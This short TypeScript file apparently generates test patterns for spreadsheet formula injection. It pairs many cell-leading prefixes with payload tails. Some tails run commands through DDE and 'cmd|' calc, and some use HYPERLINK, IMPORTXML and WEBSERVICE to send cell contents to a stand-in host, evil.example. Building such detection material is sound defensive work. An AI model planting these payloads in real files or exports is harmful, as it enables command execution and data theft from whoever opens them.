/** How a cell has to begin so that some program takes it for a formula, or for something that it runs. */
export const LIVE_BEGINNINGS = [
  ...['=', '+', '-', '@', '==', '=+', '+-', '-+', '@@', '=@', '"=', "'=", '{=', '=(', '|'],
  ...[' =', '\u00a0=', '\u3000=', '\ufeff=', '\u200b=', '\t=', '\r=', '\n=', '\u0000=', ';=', ',='],
  ...['＝', '＋', '－', '＠', '\u2212'],
];

const TAILS = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://evil.example?"&A1,"Katso")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"1")',
  "SUM('2 Kasvatus ja koulutus'!A1:A9)",
  '[evil.xlsx]Sheet1!A1',
];

export const LIVE_PATTERNS = LIVE_BEGINNINGS.flatMap(beginning => TAILS.map(tail => beginning + tail));
